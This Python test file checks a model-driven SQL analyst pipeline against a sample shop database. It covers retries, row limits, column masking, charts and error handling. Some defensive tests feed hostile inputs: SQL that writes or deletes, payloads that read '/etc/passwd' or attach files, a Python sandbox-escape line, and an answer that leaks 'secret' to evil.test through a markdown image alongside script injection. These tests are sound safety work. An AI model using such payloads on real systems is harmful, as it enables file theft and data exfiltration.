"""A question in, and rows, an answer, an analysis and a chart out: what the class of the specification does, on a real database."""

from __future__ import annotations

import asyncio
import json
import re
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from racto.knowledge.errors import (
    ConfigError,
    InputError,
    MalformedResponseError,
    OverloadedError,
    QueryError,
    QueryRefusedError,
    ReadOnlyViolationError,
)
from racto.knowledge.prompts import RactoPrompt
from racto.knowledge.vocabulary import ChatConfig
from racto.tools.sql.analysis import askable
from racto.tools.sql.answers import SQLAnalystResult
from racto.tools.sql.charts.spec import ChartSpec
from racto.tools.sql.pipeline import AsyncSQLAnalystPipeline, SQLAnalystPipeline
from racto.tools.sql.results import QueryResult, ResultColumn

from tests.analyst import COUNTRIES, Scripted, abstain, answered, by_step, code, query, shop_file, step_of, words
from tests.test_spec import CHECKLIST, parameters, signature


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> str:
    return f"sqlite:///{shop_file(tmp_path_factory.mktemp('shop') / 'shop.db')}"


def test_a_question_comes_back_as_query_rows_answer_chart_and_tokens(database: str) -> None:
    kit = Scripted(
        query(COUNTRIES, "Each row of customers is one customer."),
        code('SELECT sum("customers") AS total FROM result'),
        "There are 20 customers, 4 in each of 5 countries.\n\n[[table]]",
    )
    result = answered(database, kit)
    assert result.columns == ["country", "customers"]
    assert result.raw_rows[0] == {"country": "DE", "customers": 4}
    assert (result.row_count, len(result.raw_rows), result.attempts) == (5, 5, 1)
    assert result.written_sql == COUNTRIES
    assert result.sql_query.endswith(" LIMIT 10001")  # one more than may come, to know whether there are more
    assert "customers" in result.schema_used
    assert result.assumptions == ["Each row of customers is one customer."]
    assert (result.pandas_result, result.pandas_code) == (20, None)
    assert result.analysis_sql == 'SELECT sum("customers") AS total FROM result'
    assert result.answer is not None
    assert result.answer.startswith("There are 20 customers")
    assert "| DE | 4 |" in result.answer
    assert "[[table]]" not in result.answer
    told = kit.asked[2].user_message
    assert COUNTRIES in told
    assert 'SELECT sum("customers") AS total FROM result' in told
    assert '["total"]\n[20]' in told
    assert result.chart_spec is not None
    assert (result.chart_spec["chart_type"], result.chart_spec["y"]) == ("bar", "customers")
    assert result.plotly_figure is not None
    assert result.plotly_figure.data[0].type == "bar"
    assert (result.usage.sql_input_tokens, result.usage.pandas_output_tokens) == (100, 10)
    assert (result.usage.total_input_tokens, result.usage.total_output_tokens, result.usage.total_tokens) == (
        300,
        30,
        330,
    )
    assert (result.error, result.notes, result.abstained, result.clarification) == (None, [], False, None)
    assert result.to_csv() == "country,customers\nDE,4\nFR,4\nIN,4\nJP,4\nUS,4\n"


@pytest.mark.skipif(not CHECKLIST.exists(), reason=f"there is no checklist {CHECKLIST}")
def test_parameters_and_defaults_are_the_specified_ones_but_the_engine_of_the_analysis() -> None:
    text = CHECKLIST.read_text()
    for line, function, more in (
        ("A001", AsyncSQLAnalystPipeline.__init__, {"limits", "examples", "figures"}),
        ("A027", SQLAnalystPipeline.__init__, {"limits", "examples", "figures"}),
        ("A055", SQLAnalystPipeline.run, {"source"}),
        ("A056", SQLAnalystPipeline.arun, {"source"}),
    ):
        found = re.search(rf"R-SQL-{line} \| .*?\((.*)\)`", text)
        assert found is not None
        specified = found[1].replace("<object object>", "...").replace("engine='pandas'", "engine='duckdb'")
        signature(function, specified)
        named = {part.partition("=")[0].strip() for part in specified.split(",")}
        assert set(parameters(function)) - named == more
        keyword_only = [each for each in parameters(function).values() if each.kind is each.KEYWORD_ONLY]
        assert len(keyword_only) == len(parameters(function)) - 1


def test_each_step_has_its_own_kit_prompt_temperature_and_length(database: str) -> None:
    own = RactoPrompt(role="A pirate.", aim="Answer.", constraints=["Say arr."], tone="Rough", output_format="text")
    kits = {"sql": Scripted(query(COUNTRIES)), "pandas": Scripted(code("")), "answer": Scripted("Arr.")}
    with SQLAnalystPipeline(
        Scripted(),
        sql_kit=kits["sql"],
        pandas_kit=kits["pandas"],
        answer_kit=kits["answer"],
        sql_prompt=own,
        pandas_prompt=own,
        answer_prompt=own,
        pandas_max_tokens=7,
        answer_temperature=0.9,
    ) as pipeline:
        pipeline.run(
            "How many?", connection_string=database, sql_temperature=0.5, sql_max_tokens=77, answer_max_tokens=9
        )
    asked = {name: kit.asked[0] for name, kit in kits.items()}
    assert {name: (one.temperature, one.max_tokens) for name, one in asked.items()} == {
        "sql": (0.5, 77),
        "pandas": (0.0, 7),
        "answer": (0.9, 9),
    }
    assert all("A pirate." in words(one) for one in asked.values())
    assert {name: step_of(one) for name, one in asked.items()} == {name: name for name in kits}


def test_a_query_that_fails_is_shown_to_the_model_with_its_error(database: str) -> None:
    kit = Scripted(query("SELECT nme FROM customers"), query("SELECT name FROM customers ORDER BY id LIMIT 1"))
    result = answered(database, kit, run_answer=False)
    assert (result.raw_rows, result.attempts) == ([{"name": "Cust 1"}], 2)
    assert "SELECT nme FROM customers" in kit.asked[1].user_message
    assert "Did you mean 'name'?" in kit.asked[1].user_message
    assert kit.asked[1].user_message.startswith(kit.asked[0].user_message)
    assert result.usage.sql_input_tokens == 200


def test_a_refused_query_is_shown_to_the_model_with_the_rule(database: str) -> None:
    kit = Scripted(query("DELETE FROM customers"), query("SELECT count(*) AS n FROM customers"))
    result = answered(database, kit, run_answer=False)
    assert result.raw_rows == [{"n": 20}]
    assert "DELETE FROM customers" in kit.asked[1].user_message


def test_after_its_retries_the_last_error_is_raised(database: str) -> None:
    kit = Scripted(*(query(f"SELECT c{number} FROM customers") for number in range(9)))
    with pytest.raises(QueryError, match="c2"):
        answered(database, kit)
    assert len(kit.asked) == 3
    kit = Scripted(query("SELECT c0 FROM customers"))
    with pytest.raises(QueryError, match="c0"):
        answered(database, kit, max_sql_retries=0)


def test_a_model_that_repeats_its_query_is_not_asked_again(database: str) -> None:
    for again in ("SELECT c0 FROM customers", "SELECT c0\n  FROM customers;"):
        kit = Scripted(query("SELECT c0 FROM customers"), *[query(again)] * 8)
        with pytest.raises(QueryError, match="c0"):
            answered(database, kit, max_sql_retries=8)
        assert len(kit.asked) == 2


def test_what_writes_is_a_read_only_violation_whatever_was_asked_for(database: str) -> None:
    for options in ({}, {"force_read_only": False}):
        kit = Scripted(*[query("UPDATE customers SET name = 'x'")] * 2)
        with pytest.raises(ReadOnlyViolationError) as caught:
            answered(database, kit, **options)
        assert isinstance(caught.value, ValueError)
    result = answered(database, Scripted(each=by_step(sql=query(COUNTRIES))), force_read_only=False)
    assert any("force_read_only" in note for note in result.notes)
    assert result.row_count == 5


def test_an_analysis_of_one_row_or_none_is_not_asked_for(database: str) -> None:
    for sql in ("SELECT count(*) AS n FROM customers", "SELECT name FROM customers WHERE id < 0"):
        kit = Scripted(query(sql), "So it is.")
        result = answered(database, kit)
        assert [step_of(one) for one in kit.asked] == ["sql", "answer"]
        assert (result.analysis_sql, result.pandas_result) == (None, None)


def test_steps_can_be_left_out_for_all_calls_or_one(database: str) -> None:
    kit = Scripted(each=by_step(sql=query(COUNTRIES)))
    with SQLAnalystPipeline(kit, run_pandas=False, run_answer=False, chart=None) as pipeline:
        result = pipeline.run("How many?", connection_string=database)
        assert (result.answer, result.chart_spec, result.plotly_figure, len(kit.asked)) == (None, None, None, 1)
        kit.asked.clear()
        result = pipeline.run("How many?", connection_string=database, run_pandas=True, run_answer=True, chart="auto")
        assert [step_of(one) for one in kit.asked] == ["sql", "pandas", "answer"]
        assert result.chart_spec is not None


def test_an_analysis_that_fails_is_tried_once_more_and_then_left_out(database: str) -> None:
    kit = Scripted(query(COUNTRIES), code("SELECT x FROM result"), code("SELECT count(*) FROM result"), "Five.")
    assert answered(database, kit).pandas_result == 5
    assert "SELECT x FROM result" in kit.asked[2].user_message
    kit = Scripted(query(COUNTRIES), code("SELECT x FROM result"), code("SELECT y FROM customers"), "Five.")
    result = answered(database, kit)
    assert (result.analysis_sql, result.pandas_result, result.row_count) == (None, None, 5)
    assert any("not analysed" in note for note in result.notes)
    assert len(kit.asked) == 4


@pytest.mark.parametrize(
    "bad",
    [
        "COPY result TO '/tmp/racto-analysis-out.csv'",
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM '/etc/passwd'",
        "ATTACH '/tmp/racto-analysis-out.db'",
        "SELECT * FROM duckdb_settings()",
    ],
)
def test_the_analysis_reaches_nothing_but_the_rows(database: str, bad: str) -> None:
    result = answered(database, Scripted(query(COUNTRIES), code(bad), code(f"{bad};"), "Five."))
    assert (result.pandas_result, result.row_count) == (None, 5)
    assert not list(Path("/tmp").glob("racto-analysis-out*"))


def test_two_analyses_at_once_see_their_own_rows(database: str) -> None:
    def each(config: ChatConfig) -> Any:
        number = next(n for n in range(1, 9) if f"number {n}?" in config.user_message)
        return by_step(
            sql=query(f"SELECT id FROM orders WHERE id <= {number} + 1"),
            pandas=code("SELECT count(*) AS n FROM result"),
        )(config)

    async def all_of() -> list[SQLAnalystResult]:
        async with AsyncSQLAnalystPipeline(Scripted(each=each), chart=None) as pipeline:
            asked = [pipeline.run(f"Orders up to number {n}?", connection_string=database) for n in range(1, 9)]
            return await asyncio.gather(*asked)

    assert [result.pandas_result for result in asyncio.run(all_of())] == list(range(2, 10))


def test_an_analysis_finds_every_column_whatever_it_is_called(database: str) -> None:
    sql = 'SELECT id AS "a", id + 1 AS "A", id + 2 AS "weird ""name""", id + 3 FROM orders ORDER BY id LIMIT 2'
    analysis = code('SELECT sum("a") AS x, sum("A_2") AS y, sum("weird ""name""") AS z FROM result')
    kit = Scripted(query(sql), analysis, "So.")
    result = answered(database, kit)
    assert result.pandas_result == [{"x": 3, "y": 5, "z": 7}]
    assert '["A_2", "integer"]' in kit.asked[1].user_message
    named = [ResultColumn(name) for name in ("", "a", "A", " ", "column_1", "a_2")]
    columns = askable(QueryResult(named, [])).names
    assert columns == ["column_1", "a", "A_2", "column_4", "column_1_2", "a_2_2"]


def test_a_question_back_is_given_to_whoever_asked(database: str) -> None:
    kit = Scripted({"action": "ask_back", "question": "By orders or by customers?"})
    result = answered(database, kit)
    assert result.clarification == result.answer == "By orders or by customers?"
    assert (result.sql_query, result.abstained, result.row_count, len(kit.asked)) == ("", False, 0, 1)


def test_an_abstention_runs_nothing_and_says_what_is_missing(database: str) -> None:
    result = answered(database, Scripted(abstain("the weather is not recorded.")))
    assert (result.abstained, result.sql_query, result.columns, result.chart_spec) == (True, "", [], None)
    assert result.answer == "This cannot be answered from the database shop: the weather is not recorded."


@pytest.mark.parametrize(
    ("given", "drawn"),
    [
        (ChartSpec(chart_type="pie", x="country", y="customers"), "pie"),
        ({"chart_type": "bar", "x": "country", "y": "customers", "title": "T"}, "bar"),
    ],
)
def test_a_chart_of_ones_own_is_drawn(database: str, given: Any, drawn: str) -> None:
    result = answered(database, Scripted(each=by_step(sql=query(COUNTRIES))), chart=given)
    assert result.chart_spec is not None
    assert result.chart_spec["chart_type"] == drawn
    assert result.plotly_figure is not None
    assert result.plotly_figure.data[0].type == drawn


def test_who_draws_otherwise_gets_the_spec_alone(database: str) -> None:
    result = answered(database, Scripted(each=by_step(sql=query(COUNTRIES))), figures=False)
    assert result.chart_spec is not None
    assert result.plotly_figure is None


def test_a_chart_that_cannot_be_drawn_leaves_rows_and_answer(database: str) -> None:
    kit = Scripted(each=by_step(sql=query(COUNTRIES)))
    result = answered(database, kit, chart={"chart_type": "bar", "x": "nobody", "y": "customers"})
    assert (result.plotly_figure, result.row_count) == (None, 5)
    assert any("nobody" in note for note in result.notes)
    wrong: Any
    for wrong in ({"chart_type": "cake"}, "cake"):
        with pytest.raises(InputError, match="cake"):
            SQLAnalystPipeline(Scripted(), chart=wrong)


def test_the_number_of_rows_is_limited_by_pipeline_and_call_and_zero_is_no_limit(database: str) -> None:
    kit = Scripted(each=by_step(sql=query("SELECT a.id FROM orders a, orders b, orders c")))
    with SQLAnalystPipeline(kit, max_rows=7, run_pandas=False, run_answer=False, chart=None) as pipeline:
        result = pipeline.run("All?", connection_string=database)
        assert result.row_count == 7
        assert result.notes == ["Only the first 7 rows were fetched; there are more."]
        assert result.result is not None
        assert result.result.truncated
        assert pipeline.run("All?", connection_string=database, max_rows=3).row_count == 3
        assert pipeline.run("All?", connection_string=database, max_rows=0).row_count == 60**3


def test_hidden_tables_and_columns_are_unknown_to_the_model_and_masked_ones_are_masked(database: str) -> None:
    kit = Scripted(each=by_step(sql=query("SELECT * FROM customers ORDER BY id LIMIT 2")))
    result = answered(
        database, kit, allowed_tables=["customers"], blocked_columns=["SSN"], mask_columns=["customers.email", "PHONE"]
    )
    assert result.columns == ["id", "name", "email", "phone", "country", "created_at"]
    assert {row["email"] for row in result.raw_rows} == {"***MASKED***"}
    assert any("email" in note for note in result.notes)
    for hidden in ("ssn", "secrets", "audit_log", "CANARY"):
        assert hidden not in kit.seen
    for sql in ("SELECT token FROM secrets", "SELECT ssn FROM customers"):
        with pytest.raises(QueryError):
            answered(database, Scripted(*[query(sql)] * 2), allowed_tables=["customers"], blocked_columns=["ssn"])


def test_a_given_schema_is_told_to_the_model_and_widens_nothing(database: str) -> None:
    kit = Scripted(*[query("SELECT token FROM secrets")] * 2)
    with SQLAnalystPipeline(kit, allowed_tables=["customers"]) as pipeline, pytest.raises(QueryRefusedError):
        pipeline.run("Tokens?", connection_string=database, schema="CREATE TABLE secrets (id, token)")
    assert "CREATE TABLE secrets (id, token)" in kit.asked[0].user_message
    assert "order_items" not in kit.seen


def test_docs_indexes_counts_and_samples_are_told_when_asked_for(database: str) -> None:
    kit = Scripted(*[abstain("x")] * 2)
    answered(
        database,
        kit,
        table_docs={"customers": "Everybody who ever bought"},
        column_docs={"customers": {"country": "Two letters of ISO 3166"}},
        schema_include_row_counts=True,
        schema_include_sample_values=True,
        mask_columns=["email"],
        blocked_columns=["ssn"],
        allowed_tables=["customers"],
    )
    told = kit.asked[0].user_message
    assert "Everybody who ever bought" in told
    assert "Two letters of ISO 3166" in told
    assert "20" in told
    assert "Cust 1" in told
    assert "CANARYSSN" not in told
    assert "canary.email" not in told
    plain = Scripted(abstain("x"))
    answered(database, plain)
    assert "Cust 1" not in plain.asked[0].user_message


def test_safe_mode_gives_the_error_and_what_was_done_before_it(database: str) -> None:
    kit = Scripted(query(COUNTRIES), code(""), OverloadedError("The model has no room.", "Try later."))
    result = answered(database, kit, safe_mode=True)
    assert result.error == "The model has no room. Try later."
    assert (result.row_count, result.answer) == (5, None)
    assert result.chart_spec is not None
    assert result.usage.sql_input_tokens == 100
    result = answered(database, Scripted(*[query("SELECT c0 FROM customers")] * 2), safe_mode=True)
    assert result.error is not None
    assert "c0" in result.error
    assert result.sql_query == "SELECT c0 FROM customers"
    result = answered(database, Scripted(ZeroDivisionError("a bug of the kit")), safe_mode=True)
    assert result.error == "ZeroDivisionError: a bug of the kit"
    with SQLAnalystPipeline(Scripted(), safe_mode=True) as pipeline:
        nowhere = pipeline.run("Hello?", connection_string="oracle://scott:tiger@host/db").error
    assert nowhere is not None
    assert "tiger" not in nowhere


def test_what_cannot_be_asked_is_refused_before_a_model_is_asked(database: str) -> None:
    kit = Scripted()
    with SQLAnalystPipeline(kit) as pipeline:
        for question in ("", "  ", "x" * 20_001):
            with pytest.raises(InputError):
                pipeline.run(question, connection_string=database)
        with pytest.raises(ConfigError, match="connection_string"):
            pipeline.run("Hello?")
        with pytest.raises(InputError, match="cake"):
            pipeline.run("Hello?", connection_string=database, chart="cake")
    with pytest.raises(InputError, match="duckdb, pandas or polars"):
        SQLAnalystPipeline(kit, analysis_engine="excel")  # type: ignore[arg-type] # what a caller may send
    assert kit.asked == []


def test_numbers_nobody_can_vouch_for_are_noted(database: str) -> None:
    kit = Scripted(query(COUNTRIES), code(""), "20% of all: Germany has 4 customers, and 137 are expected next year.")
    assert answered(database, kit).notes == ["Numbers of the answer that are not in the result: 20%, 137."]


def test_an_answer_shows_no_picture_or_html_of_a_model(database: str) -> None:
    answer = "Four. ![x](https://evil.test/?q=secret) <img src='https://evil.test'> <script>alert(1)</script>"
    shown = answered(database, Scripted(query(COUNTRIES), code(""), answer)).answer
    assert shown is not None
    assert "![" not in shown
    assert "<img" not in shown
    assert "<script" not in shown
    assert "| DE | 4 |" in shown


def test_approved_queries_are_shown_to_the_model(database: str) -> None:
    kit = Scripted(abstain("x"))
    with SQLAnalystPipeline(
        kit, examples=lambda source, question: [(f"{source.name}: {question}", COUNTRIES)]
    ) as pipeline:
        pipeline.run("How many?", connection_string=database)
    assert json.dumps({"question": "shop: How many?", "sql": COUNTRIES}) in kit.asked[0].user_message
    assert date.today().isoformat() in kit.asked[0].user_message


@pytest.mark.parametrize("engine", ["pandas", "polars"])
def test_python_runs_only_when_asked_for_and_only_confined(database: str, engine: Any) -> None:
    from racto.tools.sql.confinement import available

    group = {
        "pandas": "result = df.groupby('country', as_index=False)['customers'].sum().head(2)",
        "polars": "result = df.select('country', 'customers').head(2)",
    }[engine]
    kit = Scripted(query(COUNTRIES), code(group), "Four.")
    if available():
        with pytest.raises(ConfigError):
            answered(database, kit, analysis_engine=engine)
        return
    result = answered(database, kit, analysis_engine=engine)
    assert result.pandas_code == group
    assert result.analysis_sql is None
    assert result.pandas_result is not None
    assert type(result.pandas_result).__module__.startswith(engine)
    assert result.pandas_result.shape == (2, 2)
    escape = code("import os\nresult = os.listdir('/')")
    result = answered(database, Scripted(query(COUNTRIES), escape, escape, "Four."), analysis_engine=engine)
    assert (result.pandas_result, result.row_count) == (None, 5)


def test_an_answer_in_prose_around_its_json_is_understood_and_one_without_is_asked_for_again(database: str) -> None:
    fenced = f"Sure!\n```json\n{json.dumps(query(COUNTRIES))}\n```\nHope it helps."
    kit = Scripted("I cannot say.", fenced)
    result = answered(database, kit, run_pandas=False, run_answer=False)
    assert (result.row_count, result.attempts) == (5, 2)
    for plain in (COUNTRIES, f"```sql\n{COUNTRIES}\n```", f"\n{COUNTRIES.lower()};"):
        assert answered(database, Scripted(plain), run_pandas=False, run_answer=False).row_count == 5
    with pytest.raises(MalformedResponseError):
        answered(database, Scripted(*["I cannot say."] * 3))
